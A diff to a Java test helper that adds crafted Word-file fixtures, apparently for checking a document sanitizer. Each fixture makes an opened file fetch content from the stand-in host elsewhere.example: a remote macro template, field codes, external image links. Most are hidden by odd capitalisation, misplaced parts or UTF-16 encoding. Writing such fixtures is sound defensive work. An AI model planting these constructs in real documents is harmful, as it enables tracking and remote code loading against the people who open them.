@@ -7,12 +7,15 @@ import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
 import java.util.Map;
 import java.util.TreeMap;
+import java.util.stream.Collectors;
+import java.util.stream.Stream;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipInputStream;
 import java.util.zip.ZipOutputStream;
 import org.apache.poi.wp.usermodel.HeaderFooterType;
 import org.apache.poi.xwpf.usermodel.XWPFDocument;
 import org.apache.poi.xwpf.usermodel.XWPFStyle;
+import org.junit.jupiter.params.provider.Arguments;
 import org.openxmlformats.schemas.wordprocessingml.x2006.main.CTStyle;
 import org.openxmlformats.schemas.wordprocessingml.x2006.main.STStyleType;
 
@@ -77,6 +80,37 @@ public final class WordFiles {
         return with("word/media/nothing.xml", " ".repeat(50 * 1024 * 1024));
     }
 
+    /** Each takes something from elsewhere when it is opened, in a place or a spelling a hasty look passes over. */
+    public static Stream<Arguments> hostile() {
+        String field = "<h><p><fldSimple instr='INCLUDEPICTURE http://elsewhere.example/x.png'/></p></h>";
+        String external = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+                + "<Relationship Id=\"x\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+                + "image\" Target=\"http://elsewhere.example/x.png\" TargetMode=\"External\"/></Relationships>";
+        String attached = external.replace("/image", "/attachedTemplate").replace("x.png", "x.dotm");
+        String inside = external.replace(" TargetMode=\"External\"", "");
+        String drawing = "<x:imagedata xmlns:x='urn:schemas-microsoft-com:vml' src='http://elsewhere.example/x.png'/>";
+        return Stream.of(
+                Arguments.of("a header outside word/", with("kopf/header1.xml", field)),
+                Arguments.of("a header with another ending", with("kopf/header1.dat", field)),
+                Arguments.of("a header in UTF-16", withBytes("kopf/h.dat", field.getBytes(StandardCharsets.UTF_16))),
+                Arguments.of("relations in capitals", with("word/_rels/header1.xml.RELS", external)),
+                Arguments.of("a folder of relations in capitals", with("word/_RELS/header1.xml.rels", external)),
+                Arguments.of("relations outside word/", with("kopf/_rels/header1.xml.rels", external)),
+                Arguments.of("relations outside their folder", with("word/header1.xml.rels", external)),
+                Arguments.of("settings in capitals", with("word/_rels/Settings.xml.RELS", attached)),
+                Arguments.of("an address that says it is inside", with("word/_rels/header1.xml.rels", inside)),
+                Arguments.of("an older drawing", with("word/header7.xml", drawing)),
+                Arguments.of("a drawing in a picture", with("word/media/a.svg", drawing.replace("src", "href"))),
+                Arguments.of("letters in series", with("word/settings9.xml", "<s><mailMerge/></s>")),
+                Arguments.of("a field spelt in numbers", with("x/y.xml", "<f instr='QUOTE 73 78 67'/>")));
+    }
+
+    private static byte[] withBytes(String part, byte[] content) {
+        Map<String, byte[]> parts = parts(council());
+        parts.put(part, content);
+        return zip(parts);
+    }
+
     static Map<String, byte[]> parts(byte[] zip) {
         Map<String, byte[]> parts = new TreeMap<>();
         try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
@@ -87,6 +121,13 @@ public final class WordFiles {
             throw new UncheckedIOException(e);
         }
         return parts;
+    }
+
+    /** All parts of a file in a row, as text. */
+    public static String everything(byte[] zip) {
+        return parts(zip).values().stream()
+                .map(part -> new String(part, StandardCharsets.UTF_8))
+                .collect(Collectors.joining("\n"));
     }
 
     static byte[] zip(Map<String, byte[]> parts) {
